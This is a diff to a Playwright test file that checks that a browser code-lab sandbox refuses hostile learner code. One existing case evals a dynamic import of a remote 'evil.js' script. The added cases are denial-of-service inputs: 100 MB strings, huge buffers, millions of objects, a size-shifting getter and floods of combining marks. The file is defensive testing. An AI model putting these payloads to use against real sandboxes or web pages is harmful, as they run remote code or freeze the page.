@@ -7,7 +7,7 @@ import { CRASHED_MESSAGE } from '../lib/sandbox/run-collector';
 import type { Page } from '@playwright/test';
 import { CrashTolerantDriver, type RolePath } from './crash-tolerant-driver';
 import { expect, test } from './sandbox-fixtures';
-import { exerciseRegion, honestRunWorks, measureClickResponse, openCodeLabWithDraft, runStatus } from './sandbox-helpers';
+import { clickResponsesThroughRun, exerciseRegion, watchLongTasks, honestRunWorks, measureClickResponse, openCodeLabWithDraft, runStatus } from './sandbox-helpers';
 
 interface HostileCase {
   readonly name: string;
@@ -46,7 +46,7 @@ const CASES: HostileCase[] = [
     name: 'eval of remote code',
     code: "const indirect = eval;\nawait indirect(\"import('https://example.com/evil.js')\");",
     // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
-    // worker's CSP (script-src 'self'), which refuses it before any request is made.
+    // worker's CSP (a script-src of one hash: no URL at all), which refuses it before any request is made.
     message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
   },
   {
@@ -80,7 +80,7 @@ const CASES: HostileCase[] = [
   },
   { name: 'returning a function', code: 'export default function solve() { return { f: function helper() {} }; }', message: /contains a function \(`helper`\), which cannot leave the sandbox/ },
   { name: 'returning a class instance', code: 'class Point { x = 1; }\nexport const p = new Point();', message: /^The export `p` is an instance of the class `Point`/ },
-  { name: 'returning a million objects', code: 'export const many = Array.from({ length: 1_000_000 }, (_, i) => ({ i }));', message: /^The export `many` contains more than 200000 values/ },
+  { name: 'returning a million objects', code: 'export const many = Array.from({ length: 1_000_000 }, (_, i) => ({ i }));', message: /^The export `many` has at least [\d,]+ objects, arrays and items; the limit is 20,000/ },
 ];
 
 test.describe('hostile learner code', () => {
@@ -100,6 +100,77 @@ test.describe('hostile learner code', () => {
       if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
       else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
       await expect(runStatus(page)).not.toHaveText('Running…');
+      await honestRunWorks(page);
+    });
+  }
+
+  /**
+   * Values that cost the page, not the sandbox: each used to freeze clicks for 1-8 s while the page
+   * cloned it, checked it or rendered it. Now the sandbox refuses an oversized value before it
+   * crosses (lib/sandbox/value-budget.ts), checks run in a worker, and output is bounded by what it
+   * costs to render. Clicks are measured through the whole run and just after it.
+   */
+  const OVERSIZED: HostileCase[] = [
+    {
+      name: 'returns a 100 MB string',
+      code: "export default function solve() {\n  return 'x'.repeat(100_000_000);\n}",
+      message: /^The value your default function returned holds a string of 100,000,000 characters \(95 MB\); the limit is 524,288 characters, so it was not sent back to the page/,
+    },
+    {
+      name: 'a 128 MB ciphertext through the AEAD check',
+      code: "export const sharedSecret = new Uint8Array(32);\nexport const key = new Uint8Array(32);\nexport const plaintext = new Uint8Array(128 * 1024 * 1024);",
+      message: /^The export `plaintext` holds binary data of 128 MB \(134,217,728 bytes\); the limit is 512 KB/,
+    },
+    {
+      name: 'a 10 MB forged text a check message would repeat',
+      code: "export const plaintext = 'Meet me at noon. '.repeat(600_000);",
+      message: /^The export `plaintext` holds a string of 10,200,000 characters/,
+    },
+    {
+      name: 'two million objects',
+      code: 'export default () => Array.from({ length: 2_000_000 }, (_, i) => ({ i }));',
+      message: /^The value your default function returned has at least 2,000,00\d objects, arrays and items; the limit is 20,000/,
+    },
+    {
+      name: 'a getter that is small when measured and huge when sent (the frame refuses it)',
+      code: "let reads = 0;\nexport const sneaky = { get text() { return reads++ === 0 ? 'small' : 'y'.repeat(50_000_000); } };",
+      message: /^The export `sneaky` holds a string of 50,000,000 characters/,
+    },
+    {
+      name: 'an 80 MB hex string the key check would parse',
+      code: "export const key = 'ab'.repeat(40_000_000);",
+      message: /^The export `key` holds a string of 80,000,000 characters/,
+    },
+    {
+      name: 'twelve lines of 5,000 combining marks each (within the character caps)',
+      code: "for (let i = 0; i < 12; i++) console.log('Z' + '\\u0301'.repeat(5000));",
+      message: /truncated: 4,993 combining characters removed/,
+      where: 'log',
+    },
+    {
+      name: 'a line of 5,000 combining marks',
+      code: "console.log('Z' + '\\u0301'.repeat(5000));",
+      message: /truncated: 4,993 combining characters removed/,
+      where: 'log',
+    },
+  ];
+
+  for (const c of OVERSIZED) {
+    test(`oversized: ${c.name}`, async ({ page }, testInfo) => {
+      await openCodeLabWithDraft(page, c.code);
+      const longestTask = await watchLongTasks(page);
+      await page.getByRole('button', { name: 'Run', exact: true }).click();
+      const clicks = await clickResponsesThroughRun(page);
+      await expect(runStatus(page)).not.toHaveText('Running…');
+      const blocked = await longestTask();
+      testInfo.annotations.push({
+        type: 'click responses',
+        description: `${clicks.map((ms) => `${ms.toFixed(1)} ms`).join(', ')}; longest main-thread task ${blocked.toFixed(0)} ms`,
+      });
+      if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
+      else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
+      expect(Math.max(...clicks), 'slowest pointerdown → toggle, measured in the page').toBeLessThan(200);
+      expect(blocked, 'longest main-thread task from Run to the message shown (a click waits at most this long)').toBeLessThan(200);
       await honestRunWorks(page);
     });
   }
